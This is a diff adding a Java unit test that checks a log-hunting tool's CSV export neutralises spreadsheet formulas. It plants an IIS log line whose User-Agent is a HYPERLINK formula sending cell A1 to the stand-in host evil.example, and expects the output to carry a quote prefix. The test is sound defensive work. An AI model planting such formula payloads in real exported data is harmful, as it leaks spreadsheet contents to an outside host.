@@ -32,6 +32,33 @@ class HuntCommandTest {
                         .replace("\n", "\r\n"));
     }
 
+    @Test
+    void csvNeverCarriesALiveSpreadsheetFormulaFromALog() throws IOException {
+        Path dir = logs.resolve("inetpub/logs/LogFiles/W3SVC1");
+        Files.writeString(
+                dir.resolve("u_ex210304.log"),
+                """
+                #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken
+                2021-03-04 01:00:00 10.0.0.5 GET /owa/ - 443 - 198.51.100.7 =HYPERLINK("http://evil.example/?"&A1,"click") - 200 0 0 5
+                """
+                        .replace("\n", "\r\n"));
+        TestIo io = io();
+        int status =
+                io.run(
+                        "hunt",
+                        "--logs",
+                        logs.toString(),
+                        "--format",
+                        "csv",
+                        "-q",
+                        "W3CIISLog | where cIP == \"198.51.100.7\" | project csUserAgent");
+        assertThat(status).isZero();
+        assertThat(io.out())
+                .isEqualTo(
+                        "csUserAgent\r\n"
+                            + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\r\n");
+    }
+
     private TestIo io() {
         return new TestIo(home);
     }
